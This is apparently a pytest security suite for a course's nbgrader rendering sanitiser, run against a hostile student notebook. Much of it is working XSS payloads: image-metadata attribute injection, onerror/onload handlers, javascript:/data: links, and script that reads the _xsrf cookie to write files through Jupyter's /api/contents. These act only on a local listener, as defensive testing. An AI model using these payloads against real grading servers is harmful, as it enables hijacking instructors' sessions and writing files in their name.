"""A student's notebook, rendered for the instructor, runs none of the student's script.

The fast tests check :mod:`gmm_grader.render` on its own. The slow test grades one
hostile submission of ``gmm_basics`` with stock ``nbgrader autograde`` (the course's
config: sandboxed kernel, then :func:`gmm_grader.render.sanitize_cell`), writes its
feedback with ``nbgrader generate_feedback``, and opens in headless chromium

* the feedback page (a file, as the instructor opens it), and
* the live formgrader page of that submission, served by a real Jupyter server with
  nbgrader's formgrader, as the instructor is logged in (``_xsrf`` cookie and all).

Every vector's payload, if it ever ran, would record its name in ``window.__pwned``,
request ``/<name>`` from a listener on 127.0.0.1, and write ``pwned-<name>.txt``
through the server's ``/api/contents``. None of that may happen, while the student's
honest outputs (a matplotlib figure, printed text) still show. A positive control runs
the same cells in a plain kernel and renders them with nbconvert's stock exporter and in
the formgrader unsanitised: there the vectors do run (that is what makes the
assertions able to fail).
"""

from __future__ import annotations

import base64
import io
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import nbgrader_helpers as h
import pytest
from gmm_grader import render
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

ASSIGNMENT = "gmm_basics"
STUDENT = "mallory"
# every output vector below, by the name its payload records
OUTPUT_VECTORS = (
    "png_width", "jpeg_height", "png_top_width", "fake_png", "html", "svg", "js", "html_result",
)
MARKDOWN_VECTORS = ("md_raw_img", "md_raw_svg", "md_js_link", "md_js_case", "md_js_entity", "raw_cell")


def payload(name: str, port: int) -> str:
    """JavaScript with no spaces (it must survive as an unquoted attribute value)."""
    return (
        f"window.__pwned=(window.__pwned||[]).concat(['{name}']);"
        f"fetch('http://127.0.0.1:{port}/{name}',{{mode:'no-cors'}}).catch(()=>0);"
        f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
        "(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]},body:JSON.stringify({type:'file',"
        "format:'text',content:'x'})}).catch(()=>0)"
    )


def image_b64(fmt: str) -> str:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=fmt)
    return base64.b64encode(buffer.getvalue()).decode()


def hostile_cells(port: int) -> list:
    """The student's own cells: every vector, and honest output beside them."""
    p = {name: payload(name, port) for name in (*OUTPUT_VECTORS, *MARKDOWN_VECTORS, "text_plain")}
    png, jpeg = image_b64("PNG"), image_b64("JPEG")
    code = [
        # attribute injection through image metadata (nbconvert writes width={{...}} unquoted)
        f"from IPython.display import display\n"
        f"display({{'image/png': {png!r}, 'text/plain': 'w'}}, raw=True,\n"
        f"        metadata={{'image/png': {{'width': '1 onload=' + {p['png_width']!r}}}}})",
        f"display({{'image/jpeg': {jpeg!r}, 'text/plain': 'j'}}, raw=True,\n"
        f"        metadata={{'image/jpeg': {{'height': '1 onload=' + {p['jpeg_height']!r}}}}})",
        f"display({{'image/png': {png!r}}}, raw=True,\n"
        f"        metadata={{'width': '1 onload=' + {p['png_top_width']!r}}})",
        # not an image at all, and broken on purpose so that onerror fires
        f"display({{'image/png': 'bm90IGFuIGltYWdl'}}, raw=True,\n"
        f"        metadata={{'image/png': {{'width': '1 onerror=' + {p['fake_png']!r}}}}})",
        # rich outputs no template should run
        "from IPython.display import HTML, SVG, Javascript\n"
        f"display(HTML('<img src=x onerror=\"' + {p['html']!r} + '\">'))\n"
        "SVG_NS = 'http://www.w3.org/2000/svg'\n"
        f"display(SVG('<svg xmlns=\"' + SVG_NS + '\" onload=\"' + {p['svg']!r} + '\"/>'))\n"
        f"display(Javascript({p['js']!r}))",
        f"HTML('<img src=x onerror=\"' + {p['html_result']!r} + '\">')  # execute_result",
        # HTML as text: shown, escaped
        f"display({{'text/plain': '<img src=x onerror=' + {p['text_plain']!r} + '>'}}, raw=True)\n"
        "print('<b>stdout-html</b>')\n"
        "import sys; sys.stderr.write('<i>stderr-html</i>\\n')",
        # the honest part
        # (the grading sandbox draws with the agg backend: a figure is shown as its PNG)
        "import io\nimport matplotlib.pyplot as plt\nfrom IPython.display import Image\n"
        "fig, ax = plt.subplots(figsize=(3, 2), dpi=100)\n"
        "ax.plot([0, 1, 2], [0, 1, 4])\n"
        "buffer = io.BytesIO()\nfig.savefig(buffer, format='png')\n"
        "display(Image(buffer.getvalue()))\n"
        "print('honest text 4711')",
        # a figure as the lesson shows one (the sandbox draws with Agg): an <img> with its alt text
        "from gmm_lesson import figures\n"
        "fig, ax = plt.subplots(figsize=(3, 2), dpi=100)\n"
        "ax.plot([0, 1, 2], [5, 3, 4], label='an honest \"line\" <4712>')\n"
        "figures.show(fig)",
        "raise ValueError('<img src=x onerror=alert(7)> \\x1b[31mred\\x1b[0m')",
    ]
    evil_svg = base64.b64encode(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    ).decode()
    markdown = [
        f"Raw HTML: <img src=x onerror=\"{p['md_raw_img']}\"> and <svg onload=\"{p['md_raw_svg']}\"></svg>",
        f"[a javascript link](javascript:{p['md_js_link']}) and [odd casing](JaVaScRiPt:{p['md_js_case']})",
        f"[entity](&#106;avascript:{p['md_js_entity']}), "
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), "
        "[vb](vbscript:msgbox(1)) and ![evil](attachment:evil.svg)",
        "An honest note with [a real link](https://scikit-learn.org/stable/modules/mixture.html).",
    ]
    cells = [new_code_cell(src, id=f"evil-code-{i}") for i, src in enumerate(code)]
    for i, text in enumerate(markdown):
        cell = new_markdown_cell(text, id=f"evil-md-{i}")
        if "attachment:" in text:
            cell.attachments = {"evil.svg": {"image/svg+xml": evil_svg}}
        cells.append(cell)
    raw = new_raw_cell(f"<img src=x onerror=\"{p['raw_cell']}\">", id="evil-raw")
    raw.metadata["raw_mimetype"] = "text/html"
    cells.append(raw)
    return cells


class Listener:
    """An HTTP listener on 127.0.0.1 that records every path requested of it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                outer.paths.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# ---------------------------------------------------------------- fast: render alone


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " \x01java\tscript:alert(1)", "java\nscript:x",
        "vbscript:msgbox(1)", "data:text/html,<script>", "DATA:image/svg+xml,x", "attachment:evil.svg",
        "file:///etc/passwd", "java\x00script:x",
    ],
)
def test_unsafe_urls(url):
    assert not render.url_is_safe(url)


@pytest.mark.parametrize(
    "url",
    ["https://example.org/a?b=1&c=2", "HTTP://example.org", "mailto:a@b.c", "other.ipynb#x", "#top", "a/b:c"],
)
def test_safe_urls(url):
    assert render.url_is_safe(url)


@pytest.mark.parametrize(
    "source",
    [
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](jav&#x61;script:alert(1))",
        "[a](&#106;avascript:alert(1))", "[a](vbscript:msgbox)", "[a](data:text/html,x)",
        "[a][r]\n\n[r]: javascript:alert(1)", "![x](attachment:foo.png)", "$\\href{javascript:alert(1)}{x}$",
        "\\(\\unicode{x}\\)",
    ],
)
def test_unsafe_markdown_is_shown_as_its_source(source):
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    safe = render.sanitize_markdown(source)
    page = markdown2html_mistune(safe)
    assert "<a " not in page.split("</em>", 1)[1] and "<img" not in page
    assert "<pre><code>" in page and not render.markdown_problems(safe, mathjax=False)


@pytest.mark.parametrize(
    "source",
    [
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "```mermaid\n<img src=x onerror=alert(1)>\n```",
    ],
)
def test_student_html_is_escaped(source):
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    page = markdown2html_mistune(render.sanitize_markdown(source))
    assert "<img" not in page and "<svg" not in page and "&lt;" in page


def test_honest_markdown_keeps_its_links_and_tables():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    source = "# T\n\n[ok](https://example.org) [rel](x.ipynb) $x^2$\n\n| a | b |\n|:-|-:|\n| 1 | 2 |"
    assert render.sanitize_markdown(source) == source
    page = markdown2html_mistune(source)
    assert '<a href="https://example.org">ok</a>' in page and "<table>" in page


def test_image_metadata_keeps_only_integer_sizes():
    png = image_b64("PNG")
    out = {
        "output_type": "display_data",
        "data": {"image/png": png, "text/html": "<b>x</b>", "image/svg+xml": "<svg/>"},
        "metadata": {
            "image/png": {"width": "1 onload=alert(1)", "height": 40, "alt": "x", "unconfined": True},
            "width": True,
            "height": 10**9,
            "filenames": {"image/png": "../../secret.png"},
        },
    }
    clean = render.sanitize_output(out)
    assert set(clean.data) == {"image/png"} and clean.metadata == {"image/png": {"height": 40}}
    assert base64.b64decode(clean.data["image/png"]) == base64.b64decode(png)


def figure_output(alt: str, png: str | None = None) -> dict:
    """An output as gmm_lesson.figures.show makes it (the figures module writes the HTML)."""
    from gmm_lesson import figures

    bundle = figures.bundle(base64.b64decode(png or image_b64("PNG")), alt)
    return {"output_type": "display_data", "data": bundle, "metadata": {}}


def test_a_figure_keeps_its_img_and_alt_text():
    alt = 'A chart: log L from -387.1 to -377.9, "quoted" <b>bold</b> & more'
    out = figure_output(alt)
    clean = render.sanitize_output(out)
    assert clean.data == out["data"]  # figures.bundle's HTML is already canonical
    escaped = "A chart: log L from -387.1 to -377.9, &quot;quoted&quot; &lt;b&gt;bold&lt;/b&gt; &amp; more"
    assert f'alt="{escaped}"' in clean.data["text/html"]
    assert clean.data["text/html"].count("base64,") == 1


@pytest.mark.parametrize(
    "html_text",
    [
        # attribute injection: a quote ends the alt early, so it is not the figure's shape
        '<img src="data:image/png;base64,{png}" alt="x" onerror="alert(1)">',
        '<img src="data:image/png;base64,{png}" alt="x" onerror=alert(1)>',
        '<img src="data:image/png;base64,{png}" onerror="alert(1)" alt="x">',
        '<img alt="x" src="data:image/png;base64,{png}">',  # another order: not what figures writes
        '<img src="data:image/png;base64,{png}" alt="x"><script>alert(1)</script>',
        '<script>alert(1)</script><img src="data:image/png;base64,{png}" alt="x">',
        '<img src="data:image/svg+xml;base64,{png}" alt="x">',
        '<img src="data:image/png;base64,bm90IGFuIGltYWdl" alt="x">',  # not a PNG
        '<img src="data:image/png;base64,{png}" alt="">',  # no text alternative
        '<img src="javascript:alert(1)" alt="x">',
    ],
)
def test_other_html_is_dropped_even_beside_a_figure(html_text):
    out = {"output_type": "display_data", "metadata": {},
           "data": {"text/html": html_text.format(png=image_b64("PNG")), "text/plain": "t"}}
    clean = render.sanitize_output(out)
    assert set(clean.data) == {"text/plain"}


def test_an_alt_with_encoded_markup_stays_text():
    """Entities that decode to a quote or a tag are decoded, then escaped again: still one attribute."""
    png = image_b64("PNG")
    sneaky = "x&quot; onerror=&quot;alert(1)&quot; &lt;script&gt;alert(2)&lt;/script&gt;\x07\u2028y"
    out = {"output_type": "display_data", "metadata": {},
           "data": {"text/html": f'<img src="data:image/png;base64,{png}" alt="{sneaky}">'}}
    page = render.sanitize_output(out).data["text/html"]
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        found: list = []

        def handle_starttag(self, tag, attrs):
            self.found.append((tag, dict(attrs)))

    parser = Tags()
    parser.feed(page)
    ((tag, attrs),) = parser.found
    assert tag == "img" and set(attrs) == {"src", "alt"}
    assert attrs["alt"] == 'x" onerror="alert(1)" <script>alert(2)</script> y'
    long = render.sanitize_output(figure_output("w " * render.MAX_ALT)).data["text/html"]
    assert len(long) < render.MAX_ALT + len(png) + 100


@pytest.mark.slow  # nbconvert and nbgrader start-up: seconds
def test_feedback_page_shows_each_figure_with_its_alt_text():
    """A figure as figures.show makes it, through the course's feedback exporter: an <img>, the
    PNG once, the alt as written (escaped); an image/png output of an older notebook still shows."""
    from html.parser import HTMLParser

    png = image_b64("PNG")
    alt = 'Panel 1 of 2: log L "rises" from -387.1 <to> -377.9'
    nb = nbformat.v4.new_notebook(cells=[new_code_cell("1"), new_code_cell("2")])
    nb.cells[0].outputs = [figure_output(alt, png)]
    nb.cells[1].outputs = [{"output_type": "display_data", "data": {"image/png": png}, "metadata": {}}]
    page, _ = render.FeedbackExporter(config=feedback_config()).from_notebook_node(nb, {"nbgrader": GRADES})

    class Images(HTMLParser):
        def __init__(self):
            super().__init__()
            self.images = []

        def handle_starttag(self, tag, attrs):
            if tag == "img":
                self.images.append(dict(attrs))

    parser = Images()
    parser.feed(page)
    # (nbconvert gives an image with no alt its own "No description has been provided ...")
    assert parser.images[0]["alt"] == alt and parser.images[1].get("alt") != alt
    assert [a["src"] for a in parser.images] == [f"data:image/png;base64,{png}"] * 2
    assert page.count(png) == 2  # once per output: the figure's PNG is not also an image/png


@pytest.mark.parametrize(
    ("mimetype", "data"),
    [
        ("image/png", "bm90IGFuIGltYWdl"),  # "not an image"
        ("image/png", "not base64 at all!"),
        ("image/jpeg", "PLACEHOLDER_PNG"),  # a real PNG claimed to be a JPEG
        ("image/png", "PLACEHOLDER_TRUNCATED"),  # the magic bytes and nothing after them
        ("image/png", {"a": 1}),
    ],
)
def test_images_that_are_not_images_are_dropped(mimetype, data):
    if data == "PLACEHOLDER_PNG":
        data = image_b64("PNG")
    elif data == "PLACEHOLDER_TRUNCATED":
        data = base64.b64encode(base64.b64decode(image_b64("PNG"))[:30]).decode()
    clean = render.sanitize_output({"output_type": "display_data", "data": {mimetype: data}, "metadata": {}})
    assert set(clean.data) == {"text/plain"} and "not a valid image" in clean.data["text/plain"]


def test_every_output_field_has_its_promised_type():
    weird = [
        {"output_type": "stream", "name": "<b>", "text": ["a", "b"]},
        {"output_type": "error", "ename": 1, "evalue": None, "traceback": "tb"},
        {"output_type": "execute_result", "data": {"text/plain": ["x", "y"]}, "execution_count": True},
        {"output_type": "update_display_data", "data": {"text/html": "<b>"}},
        "not a dict",
    ]
    clean = [render.sanitize_output(o) for o in weird]
    assert clean[0] == {"output_type": "stream", "name": "stdout", "text": "ab"}
    assert clean[1].ename == "1" and clean[1].evalue == "None" and clean[1].traceback == []
    assert clean[2].data == {"text/plain": "xy"} and clean[2].execution_count is None
    assert clean[3].output_type == "display_data" and "update_display_data" in clean[3].data["text/plain"]
    assert clean[4].output_type == "display_data"


def test_student_cells_lose_attachments_tags_and_raw_html():
    md = new_markdown_cell("![e](attachment:e.svg)")
    md.attachments = {"e.svg": {"image/svg+xml": "PHN2Zy8+"}}
    md.metadata["tags"] = ['" onload="alert(1)']
    raw = new_raw_cell("<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"})
    trusted = new_markdown_cell("<b>the instructor's own HTML</b>")
    trusted.metadata["nbgrader"] = {"grade": True, "grade_id": '" autofocus onfocus="alert(1)', "points": 1}
    for cell in (md, raw, trusted):
        render.sanitize_cell(cell, trusted_sources={trusted.source})
    assert "attachments" not in md and "tags" not in md.metadata and md.source.startswith("*[this markdown")
    assert raw.source == "&lt;script&gt;alert(1)&lt;/script&gt;" and "raw_mimetype" not in raw.metadata
    assert trusted.source == "<b>the instructor's own HTML</b>"
    assert trusted.metadata.nbgrader.grade_id == "__autofocus_onfocus__alert_1_"


def test_bad_arguments_are_refused():
    with pytest.raises(TypeError, match="source"):
        render.sanitize_markdown(None)
    with pytest.raises(TypeError, match="url"):
        render.url_is_safe(b"javascript:")
    with pytest.raises(ValueError, match="mimetype"):
        render.image_data("", "image/gif")
    with pytest.raises(TypeError, match="cell"):
        render.sanitize_cell("x")


#: what nbgrader's GetGrades puts in the resources of a feedback page
GRADES = {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0}


def feedback_config():
    """The exporter settings ``nbgrader generate_feedback`` makes (its template and paths)."""
    from nbgrader.converters import GenerateFeedback

    return GenerateFeedback().config


@pytest.mark.slow  # nbconvert and nbgrader start-up: seconds
def test_feedback_exporter_puts_its_policy_first_in_the_head():
    """Fails if nbgrader's feedback template stops writing a <head>, or the policy moves."""
    nb = nbformat.v4.new_notebook(cells=[new_code_cell("1")])
    nb.cells[0].outputs = [
        {"output_type": "display_data", "data": {"text/html": "<script>x</script>"}, "metadata": {}}
    ]
    page, _ = render.FeedbackExporter(config=feedback_config()).from_notebook_node(nb, {"nbgrader": GRADES})
    head = page.split("<head>", 1)[1].lstrip()
    assert head.startswith('<meta http-equiv="Content-Security-Policy"'), head[:200]
    policy = head.split('content="', 1)[1].split('"', 1)[0]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "https://cdnjs.cloudflare.com 'sha256-" in script_src and "unsafe" not in script_src
    assert "connect-src 'none'" in policy and "<script>x</script>" not in page


# ---------------------------------------------------------------- slow: real pages in chromium

WAIT_MS = 180_000


class Graded:
    """One hostile submission graded, its feedback written, and a positive control."""

    def __init__(self, root: Path, env: dict, listener: Listener, control_nb, control_html: Path):
        self.root, self.env, self.listener = root, env, listener
        self.control_nb, self.control_html = control_nb, control_html
        self.autograded_path = root / "autograded" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        self.feedback_path = root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"


@pytest.fixture(scope="module")
def graded(tmp_path_factory, request) -> Graded:
    tmp = tmp_path_factory.mktemp("render")
    listener = Listener()
    request.addfinalizer(listener.close)
    root = h.copy_course(tmp / "course")
    env = h.nbgrader_env(tmp)
    h.nbgrader(["generate_assignment", ASSIGNMENT], cwd=root, env=env)
    nb = h.read(root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    nb.cells.extend(hostile_cells(listener.port))
    folder = root / "submitted" / STUDENT / ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{ASSIGNMENT}.ipynb")
    # one autograde and one feedback for everything this module checks
    h.nbgrader(["autograde", ASSIGNMENT], cwd=root, env=env)
    h.nbgrader(["generate_feedback", ASSIGNMENT], cwd=root, env=env)

    # positive control: the same cells run in a plain kernel, rendered by nbconvert with
    # nbgrader's feedback template and nothing of gmm_grader.render
    control = nbformat.v4.new_notebook(cells=hostile_cells(listener.port))
    control.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    control_path = tmp / "control" / "control.ipynb"
    control_path.parent.mkdir()
    nbformat.write(control, control_path)
    executed = h.execute(control_path)
    from nbconvert import HTMLExporter

    page, _ = HTMLExporter(config=feedback_config()).from_notebook_node(executed, {"nbgrader": GRADES})
    control_html = tmp / "control" / "control.html"
    control_html.write_text(page, encoding="utf-8")
    return Graded(root, env, listener, executed, control_html)


@pytest.fixture(scope="module")
def browser(tmp_path_factory, request):
    from browser_helpers import launch_chromium, require_chromium
    from playwright.sync_api import sync_playwright

    require_chromium()
    playwright = sync_playwright().start()
    request.addfinalizer(playwright.stop)
    context = launch_chromium(playwright, tmp_path_factory.mktemp("chromium"))
    request.addfinalizer(context.close)
    return context


def settle(page, listener: Listener | None = None, expect_requests: bool = False) -> list[str]:
    """Wait until every image has loaded or failed, then give handlers and requests time to land."""
    page.wait_for_load_state("load")
    page.wait_for_function("Array.from(document.images).every(i => i.complete)", timeout=WAIT_MS)
    if expect_requests and listener is not None:  # the control: wait for the requests themselves
        for _ in range(600):
            if listener.paths:
                break
            page.wait_for_timeout(100)
    page.wait_for_timeout(1500)  # a negative check: what would have run has had time to run
    return page.evaluate("window.__pwned || []")


def unsafe_links(page) -> list[str]:
    return page.evaluate(
        "Array.from(document.querySelectorAll('[href],[src],[action],[formaction]'))"
        ".map(e => e.href || e.src || e.getAttribute('action') || e.getAttribute('formaction'))"
        ".filter(u => typeof u === 'string'"
        " && !/^(https?:|mailto:|file:|data:image\\/(png|jpeg);base64,)/i.test(u))"
    )


def click_every_link(page) -> None:
    """What an instructor might do: follow the student's non-web links (never http ones).

    One at a time: a second navigation started at once would cancel the first.
    """
    links = (
        "Array.from(document.querySelectorAll('a[href]'))"
        ".filter(a => !/^(https?:|mailto:|file:)/i.test(a.href))"
    )
    for index in range(page.evaluate(f"{links}.length")):
        page.evaluate(f"{links}[{index}].click()")
        page.wait_for_timeout(300)


@pytest.mark.slow
@pytest.mark.nbgrader
@pytest.mark.browser
@pytest.mark.timeout(1800)
def test_feedback_page_runs_no_student_script(graded, browser):
    nb = h.read(graded.autograded_path)
    student = [c for c in nb.cells if str(c.get("id", "")).startswith("evil-")]
    assert len(student) == 10 + 4 + 1, [c.get("id") for c in nb.cells]
    page = browser.new_page()
    page.goto(graded.feedback_path.as_uri(), timeout=WAIT_MS)
    pwned = settle(page)
    assert unsafe_links(page) == []
    click_every_link(page)
    pwned = settle(page)
    assert pwned == [] and graded.listener.paths == []
    head = page.locator("head > meta").first
    assert head.get_attribute("http-equiv") == "Content-Security-Policy"
    # and the policy holds on its own: an inline handler that got into the page does not run
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__csp=1\">')")
    settle(page)
    assert page.evaluate("window.__csp === undefined && document.images.length > 0")
    text = page.inner_text("body")
    # honest output still shows: the figure as an image, text, and HTML as text
    sizes = page.evaluate(
        "Array.from(document.images).filter(i => i.src.startsWith('data:image/png'))"
        ".map(i => [i.naturalWidth, i.naturalHeight])"
    )
    assert any(w >= 200 and hgt >= 100 for w, hgt in sizes), sizes  # the matplotlib figure
    # every figure the lesson and the student showed keeps its text alternative, as written
    told = [out.data["text/plain"] for cell in nb.cells for out in cell.get("outputs", [])
            if "data:image/png" in out.get("data", {}).get("text/html", "")]
    assert len(told) == 3 + 1 and 'an honest "line" <4712>' in told[-1], told  # gmm_basics's 3, and one
    alts = page.evaluate("Array.from(document.images).map(i => i.alt)")
    assert [a for a in alts if a in told] == told
    assert all(a.startswith(("A chart", "2 charts", "3 charts")) for a in told)
    assert "honest text 4711" in text and "<b>stdout-html</b>" in text and "<i>stderr-html</i>" in text
    assert "<img src=x onerror=window.__pwned" in text  # text/plain HTML, escaped by the template
    assert "<img src=x onerror=alert(7)>" in text  # the error's value, escaped
    assert "not a valid image" in text  # the fake PNG, said so
    assert "[a javascript link](javascript:" in text  # the link's cell, shown as its source
    real = page.locator("a[href='https://scikit-learn.org/stable/modules/mixture.html']")
    assert real.count() == 1 and real.inner_text() == "a real link"
    page.close()


@pytest.mark.slow
@pytest.mark.nbgrader
@pytest.mark.browser
@pytest.mark.timeout(1800)
def test_the_vectors_run_without_sanitising(graded, browser):
    """Positive control: the same outputs under nbgrader's stock feedback template do run."""
    page = browser.new_page()
    page.goto(graded.control_html.as_uri(), timeout=WAIT_MS)
    pwned = settle(page, graded.listener, expect_requests=True)
    click_every_link(page)
    pwned = settle(page)
    ran = {"png_width", "jpeg_height", "png_top_width", "fake_png", "md_raw_img", "md_js_link"}
    assert ran <= set(pwned), pwned
    assert any(p.lstrip("/") in pwned for p in graded.listener.paths), graded.listener.paths
    page.close()
    graded.listener.paths.clear()


@pytest.fixture(scope="module")
def formgrader(graded, tmp_path_factory, request):
    """The instructor's Jupyter server with nbgrader's formgrader, rooted at the course."""
    from lab_server import LabServer

    server = LabServer(tmp_path_factory.mktemp("formgrader"))
    server.root_dir = graded.root  # the formgrader reads nbgrader_config.py from here
    request.addfinalizer(server.stop)
    server.start()
    return server


def submission_url(graded: Graded, server) -> str:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded.root / 'gradebook.db'}", course_id=h.COURSE_ID) as gb:
        sid = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT).id
    return f"{server.url}/formgrader/submissions/{sid}/"


def log_in(page, server) -> None:
    """Log in through Jupyter's own login page, as the instructor does: a session cookie."""
    page.goto(f"{server.url}/login", timeout=WAIT_MS)
    page.fill("input[name=password]", server.token)
    page.click("#login_submit")
    page.wait_for_load_state("load")


def written_by_page(graded: Graded) -> list[str]:
    return sorted(p.name for p in graded.root.glob("pwned-*.txt"))


@pytest.mark.slow
@pytest.mark.nbgrader
@pytest.mark.browser
@pytest.mark.timeout(1800)
def test_live_formgrader_runs_no_student_script(graded, formgrader, browser):
    url = submission_url(graded, formgrader)
    page = browser.new_page()
    log_in(page, formgrader)
    page.goto(url, timeout=WAIT_MS)
    page.wait_for_selector("text=honest text 4711", timeout=WAIT_MS)
    heard = len(graded.listener.paths)
    pwned = settle(page)
    assert unsafe_links(page) == []
    click_every_link(page)
    pwned = settle(page)
    assert pwned == [] and graded.listener.paths[heard:] == [] and written_by_page(graded) == []
    assert "<img src=x onerror=alert(7)>" in page.inner_text("body")
    assert page.evaluate("document.cookie").count("_xsrf=") == 1  # the page is the instructor's, logged in
    # every figure keeps its text alternative on the formgrader's page too
    nb = h.read(graded.autograded_path)
    told = [out.data["text/plain"] for cell in nb.cells for out in cell.get("outputs", [])
            if "data:image/png" in out.get("data", {}).get("text/html", "")]
    alts = page.evaluate("Array.from(document.images).map(i => i.alt)")
    assert len(told) == 4 and [a for a in alts if a in told] == told

    # positive control: the same page with the unsanitised notebook in its place writes
    # through /api/contents in the instructor's name
    nbformat.write(graded.control_nb, graded.autograded_path)
    page.goto(url, timeout=WAIT_MS)
    page.wait_for_selector("text=honest text 4711", timeout=WAIT_MS)
    for _ in range(600):
        if written_by_page(graded):
            break
        page.wait_for_timeout(100)
    assert "pwned-png_width.txt" in written_by_page(graded), written_by_page(graded)
    page.close()
